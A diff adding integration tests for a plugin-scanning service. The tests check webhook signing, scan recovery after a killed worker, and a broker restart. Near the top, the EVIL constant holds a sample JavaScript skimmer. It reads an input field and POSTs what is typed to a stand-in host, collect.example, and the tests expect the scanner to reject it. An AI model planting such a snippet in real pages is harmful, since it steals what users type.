@@ -1,0 +1,223 @@
+"""End to end on real parts: PostgreSQL, Redis, a Celery worker process, gunicorn, clamd,
+Chromium. A signed webhook to a signed callback; a worker SIGKILLed mid-scan; a broker
+restarted under an accepted submission."""
+
+from __future__ import annotations
+
+import json
+import time
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+import requests
+from sqlalchemy import Engine, func, select
+
+from scanner.config import Settings
+from scanner.db import make_engine, session_scope
+from scanner.models import Decision, FindingRecord, Scan, StageRun, Submission
+from scanner.webhooks import IncomingWebhook, new_secret, signed_headers
+from tests.service.conftest import multipart, submission_fields, zip_bytes
+from tests.service.httpserver import Behaviour, serving
+from tests.service.live import (
+    REDIS,
+    Live,
+    postgres_database,
+    private_redis,
+    require_redis,
+    service_env,
+    wait_for,
+)
+
+pytestmark = pytest.mark.integration
+SECRET = new_secret()
+EVIL = (
+    "var TestPlugin = { mount: function (c) { var f = document.querySelector('input');"
+    " f.addEventListener('input', function () { fetch('https://collect.example/k', "
+    "{method: 'POST', body: f.value}); }); } };"
+)
+
+
+@pytest.fixture
+def pg() -> Iterator[str]:
+    with postgres_database() as url:
+        yield url
+
+
+@pytest.fixture
+def engine(pg: str) -> Iterator[Engine]:
+    eng = make_engine(pg)
+    yield eng
+    eng.dispose()
+
+
+@pytest.fixture
+def callback() -> Iterator[tuple[str, Behaviour]]:
+    behaviour = Behaviour()
+    with serving(behaviour) as url:
+        yield url, behaviour
+
+
+def _live(tmp_path: Path, pg: str, broker: str, clamd: Settings, cb: str, **extra: str) -> Live:
+    env = service_env(
+        tmp_path / "data",
+        pg,
+        broker,
+        clamd.clamd_socket_path,
+        GATEHOUSE_WEBHOOK_SECRETS=SECRET,
+        GATEHOUSE_CALLBACK_SECRET=SECRET,
+        GATEHOUSE_CALLBACK_ORIGINS=cb,
+        **extra,
+    )
+    (tmp_path / "logs").mkdir()
+    return Live(env, tmp_path / "logs")
+
+
+def _submit(live: Live, callback_url: str, js: str, version: str = "1.0.0") -> dict[str, str]:
+    files = {"dist/bundle.js": js}
+    body, ctype = multipart(
+        submission_fields(version=version, callback_url=f"{callback_url}/hooks"),
+        {"bundle": ("demo.zip", zip_bytes(files))},
+    )
+    headers = signed_headers(SECRET, f"msg_{time.time_ns()}", body)
+    r = requests.post(
+        f"{live.web_url}/api/v1/submissions",
+        data=body,
+        headers={**headers, "Content-Type": ctype},
+        timeout=30,
+    )
+    assert r.status_code == 202, r.text
+    return dict(r.json())
+
+
+def _scan_status(engine: Engine, scan_id: str) -> str | None:
+    with session_scope(engine) as s:
+        scan = s.get(Scan, scan_id)
+        return scan.status if scan else None
+
+
+def _logs(live: Live) -> str:
+    return "\n".join(p.read_text(errors="replace")[-3000:] for p in live.logs.iterdir())
+
+
+def test_signed_webhook_to_signed_callback(
+    tmp_path: Path,
+    pg: str,
+    engine: Engine,
+    clamd_settings: Settings,
+    callback: tuple[str, Behaviour],
+) -> None:
+    require_redis(REDIS)
+    url, behaviour = callback
+    live = _live(tmp_path, pg, REDIS, clamd_settings, url)
+    try:
+        live.start_web()
+        live.start_worker()
+        accepted = _submit(live, url, EVIL)
+        try:
+            wait_for(lambda: len(behaviour.requests) >= 2, 120, "the callbacks")
+        except AssertionError:
+            raise AssertionError(_logs(live)) from None
+        events = {}
+        for req in behaviour.requests:
+            hook = IncomingWebhook.start(req.headers, [SECRET])
+            hook.update(req.body)
+            hook.verify()  # our callbacks verify the way the registry checks them
+            events[json.loads(req.body)["type"]] = json.loads(req.body)["data"]
+        assert set(events) == {"scan.completed", "submission.rejected"}
+        assert events["scan.completed"]["submission_id"] == accepted["id"]
+        assert events["scan.completed"]["verdict"] == "reject"
+        with session_scope(engine) as s:
+            sub = s.get_one(Submission, accepted["id"])
+            assert sub.status == "rejected"
+            stages = {r.stage: r.status for r in s.scalars(select(StageRun))}
+            assert stages["runtime"] == "ok" and stages["antivirus"] == "ok", stages
+            assert stages["js-static"] == "ok"
+    finally:
+        live.stop_all()
+
+
+def test_worker_killed_mid_scan_completes_the_scan_once(
+    tmp_path: Path,
+    pg: str,
+    engine: Engine,
+    clamd_settings: Settings,
+    callback: tuple[str, Behaviour],
+) -> None:
+    require_redis(REDIS)
+    url, _ = callback
+    live = _live(tmp_path, pg, REDIS, clamd_settings, url, GATEHOUSE_STUCK_AFTER="31")
+    try:
+        live.start_web()
+        live.start_worker("first")
+        accepted = _submit(live, url, EVIL)
+
+        def runtime_running() -> bool:
+            with session_scope(engine) as s:
+                run = s.scalar(
+                    select(StageRun).where(
+                        StageRun.scan_id == accepted["scan_id"], StageRun.stage == "runtime"
+                    )
+                )
+                return run is not None and run.status == "running"
+
+        wait_for(runtime_running, 90, "the runtime stage to start")
+        live.kill("first")  # SIGKILL to the whole worker: pool, beat and browser
+        live.start_worker("second")
+        wait_for(lambda: _scan_status(engine, accepted["scan_id"]) == "completed", 150, "recovery")
+        with session_scope(engine) as s:
+            scan_id = accepted["scan_id"]
+            decisions = s.scalar(select(func.count()).where(Decision.scan_id == scan_id))
+            assert decisions == 1
+            rows = [
+                tuple(str(v) for v in row)
+                for row in s.execute(
+                    select(
+                        FindingRecord.stage,
+                        FindingRecord.rule_id,
+                        FindingRecord.path,
+                        FindingRecord.line,
+                        FindingRecord.message,
+                        FindingRecord.evidence,
+                        FindingRecord.details,
+                    ).where(FindingRecord.scan_id == scan_id)
+                )
+            ]
+            assert rows and len(rows) == len(set(rows)), "a finding was recorded twice"
+            runtime = s.scalar(
+                select(StageRun).where(StageRun.scan_id == scan_id, StageRun.stage == "runtime")
+            )
+            assert runtime is not None and runtime.status == "ok" and runtime.attempts == 2
+            assert s.get_one(Scan, scan_id).verdict == "reject"
+    finally:
+        live.stop_all()
+
+
+def test_broker_restart_loses_no_accepted_submission(
+    tmp_path: Path,
+    pg: str,
+    engine: Engine,
+    clamd_settings: Settings,
+    callback: tuple[str, Behaviour],
+) -> None:
+    url, _ = callback
+    with private_redis() as (broker, stop_broker, start_broker):
+        live = _live(tmp_path, pg, broker, clamd_settings, url, GATEHOUSE_STUCK_AFTER="6")
+        try:
+            live.start_web()
+            live.start_worker()
+            stop_broker()
+            # Accepted while the broker is down: committed first, queued by the sweeper later.
+            accepted = _submit(live, url, "var TestPlugin = {};", version="2.0.0")
+            assert _scan_status(engine, accepted["scan_id"]) == "queued"
+            start_broker()  # empty: Redis here keeps nothing on disk
+            try:
+                wait_for(
+                    lambda: _scan_status(engine, accepted["scan_id"]) == "completed",
+                    150,
+                    "the scan",
+                )
+            except AssertionError:
+                raise AssertionError(_logs(live)) from None
+        finally:
+            live.stop_all()
